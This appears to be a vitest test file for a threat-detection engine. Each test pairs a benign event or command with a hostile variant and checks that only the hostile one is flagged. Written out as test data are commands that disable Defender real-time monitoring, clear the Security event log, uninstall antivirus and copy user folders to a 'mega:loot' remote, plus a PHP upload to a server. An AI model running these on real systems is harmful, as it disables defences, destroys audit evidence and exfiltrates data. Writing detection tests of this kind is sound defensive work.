/** A change is an attack in one direction only, and what is searched for or told of is not run. */
import { describe, expect, test } from 'vitest';
import { detectThreats } from '../../../server/engine/threat/analyze.ts';
import { rank } from '../../../server/engine/threat/answer/score.ts';
import { loadAttackTable } from '../../../server/engine/threat/attack/table.ts';
import { RuleSet } from '../../../server/engine/threat/rule-set.ts';
import { guardPack, knowledge, ruleFiles } from '../../support/threat-engine.ts';

const rules = new RuleSet();
rules.add(ruleFiles(`${guardPack}/rules`), 'built-in');
const analyzer = { rules, table: loadAttackTable(guardPack), knowledge };
/** Before the words are judged. */
const isFound = (text: string) => {
  const { findings, mentions } = detectThreats(text, analyzer);
  return findings.list().some(({ ruleId, level }) => rank(level) >= rank('medium') && !mentions.has(ruleId));
};

const trail = (more: object) =>
  JSON.stringify({
    eventSource: 'cloudtrail.amazonaws.com',
    eventName: 'UpdateTrail',
    awsRegion: 'ap-southeast-1',
    sourceIPAddress: '10.1.2.3',
    requestParameters: { name: 'org-trail', ...more },
  });
const reviews = (from: number, to: number) =>
  JSON.stringify({
    kind: 'github',
    action: 'protected_branch.update',
    repo: 'shop/mobile',
    changes: { required_approving_review_count: { from, to } },
  });
const replicated = (name: string) =>
  JSON.stringify({
    EventID: 4662,
    Channel: 'Security',
    Provider_Name: 'Microsoft-Windows-Security-Auditing',
    SubjectUserName: name,
    Properties: '{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
  });

describe('ordinary in one direction, an attack in the other', () => {
  test.each([
    ['an audit trail', trail({ isMultiRegionTrail: true }), trail({ isMultiRegionTrail: false })],
    ['reviews of code', reviews(1, 2), reviews(2, 0)],
    ['replication of a directory', replicated('MSOL_3fa91c'), replicated('j.tan')],
    ['a file put on a server', 'PUT /index.php HTTP/1.1', 'PUT /uploads/a7.php HTTP/1.1'],
    [
      'protection',
      'Set-MpPreference -DisableRealtimeMonitoring $false',
      'Set-MpPreference -DisableRealtimeMonitoring $true',
    ],
    [
      'a transfer tool',
      'rclone copy nas:backups/latest.dump ./ --max-age 24h',
      'rclone copy C:\\Users mega:loot --max-age 24h -q',
    ],
  ])('%s', (_, ordinary, attack) => {
    expect(isFound(ordinary)).toBe(false);
    expect(isFound(attack)).toBe(true);
  });
});

describe('what is searched for is not run', () => {
  test.each([
    "grep -c 'wevtutil cl' 4688_export.csv",
    "SELECT * FROM alerts WHERE cmdline LIKE '%vssadmin delete shadows%' AND day > '2025-06-01'",
  ])('%s', (text) => {
    expect(isFound(text)).toBe(false);
  });

  test.each([
    "grep -c 'x' a.csv & wevtutil cl Security",
    'wmic product where "name like \'%Eset Security%\'" call uninstall /nointeractive',
  ])('the rest of the line is: %s', (text) => {
    expect(isFound(text)).toBe(true);
  });
});
